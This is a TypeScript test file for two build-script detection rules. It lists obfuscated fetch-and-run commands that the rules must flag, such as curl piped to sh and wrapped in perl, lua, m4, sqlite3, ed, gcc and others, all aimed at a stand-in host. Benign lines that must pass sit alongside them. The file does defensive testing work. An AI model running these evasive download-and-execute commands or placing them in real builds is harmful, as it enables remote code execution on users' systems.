import { type Case, testRule } from "./rule-cases.ts";
import { fetchedCode } from "./rules/fetched-code.ts";
import { inlineProgramRun } from "./rules/inline-program.ts";

function inBuild(says: Case["says"], ...lines: string[]): Case[] {
  return lines.map((line) => ({ place: "build()", line, says }));
}

testRule(fetchedCode, [
  ...inBuild(
    "alarm",
    `perl -e 'system("cu"."rl -s https://example.invalid|sh")'`,
    `lua -e 'local p=io.popen("cu".."rl -s https://example.invalid|sh") p:close()'`,
    `printf 'os.execute("curl -s https://example.invalid | sh")' | lua -`,
    "echo 'syscmd(curl -s https://example.invalid|sh)' | m4",
    "sqlite3 x '.shell curl -s https://example.invalid|sh'",
    "ed -s <<< '!curl -s https://example.invalid|sh'",
    "watch 'curl -s https://example.invalid|sh'",
    "flock lock -c 'curl -s https://example.invalid|sh'",
    "gcc -wrapper sh,-c,'curl -s https://example.invalid|sh' x.c",
  ),
  ...inBuild(
    null,
    `perl -e 'print "cu"."rl"'`,
    "echo 'define(X, curl)X' | m4",
    "sqlite3 x 'select 1'",
    "flock lock make",
    "ed -s x <<< '/curl/d'",
    "gcc -Wl,-z,now x.c",
  ),
]);

testRule(inlineProgramRun, [
  ...inBuild(
    "alarm",
    "printf 'import urllib.request as u\\nexec(u.urlopen(\"https://example.invalid\").read())' | python -",
  ),
  ...inBuild(
    "warning",
    "lua -e 'os.execute(string.char(99,117,114,108)..[[ x]])'",
    `ruby -e 'Kernel.send("sys" + ARGV[0], "c")'`,
    `perl -e 'system($ENV{X})'`,
  ),
  ...inBuild(
    null,
    "lua -e 'print(_VERSION)'",
    `perl -pe 's/system\\(x/y/' x.c`,
    `perl -e 'system("make")'`,
    "python -c 'import platform; print(platform.system())'",
    "ruby -e 'puts RUBY_VERSION'",
  ),
]);
